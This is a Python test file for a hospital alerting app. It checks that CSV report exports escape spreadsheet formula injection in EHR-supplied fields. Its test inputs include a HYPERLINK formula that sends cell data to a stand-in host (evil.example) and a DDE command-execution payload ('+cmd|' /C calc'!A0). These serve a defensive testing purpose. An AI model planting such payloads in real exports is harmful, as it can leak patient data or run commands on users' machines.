"""Every CSV cell is spreadsheet-safe: identifiers and ward names from the EHR included."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

from aw_fakes import score_event
from hypothesis import given
from hypothesis import strategies as st

from alerts_web.alerts.reports import RiskReport, render_csv
from alerts_web.csv_cells import FORMULA_TRIGGERS, escape_cell

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_hostile_ward_and_identifiers_reach_the_file_inert() -> None:
    event = score_event(ward=HOSTILE, encounter_id="+cmd|' /C calc'!A0", patient_id="@SUM(1)")
    report = RiskReport(event=event, history=[], actions=[])
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), cell
    score = rows[1]
    assert score[1:4] == ["'+cmd|' /C calc'!A0", "'@SUM(1)", "'" + HOSTILE]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_negative_numbers_stay_numbers() -> None:
    assert escape_cell("-0.05") == "-0.05"
    assert escape_cell("-1e-3") == "-1e-3"
    assert escape_cell(-0.05) == -0.05
    assert escape_cell("-") == "'-"
    assert escape_cell("\tx") == "'\tx"
    assert escape_cell("\r=1") == "'\r=1"


@given(st.text())
def test_no_escaped_cell_can_start_a_formula(text: str) -> None:
    cell = escape_cell(text)
    assert cell == text or cell == "'" + text
    assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell)


def test_notes_are_escaped_once() -> None:
    action = SimpleNamespace(
        at=score_event().computed_at,
        actor="nurse",
        kind="note",
        note="=1+1",
        intervention_code="",
        assignee=None,
        get_kind_display=lambda: "Note",
    )
    report = RiskReport(event=score_event(), history=[], actions=[action])
    assert render_csv(report).splitlines()[-1].endswith(",'=1+1")
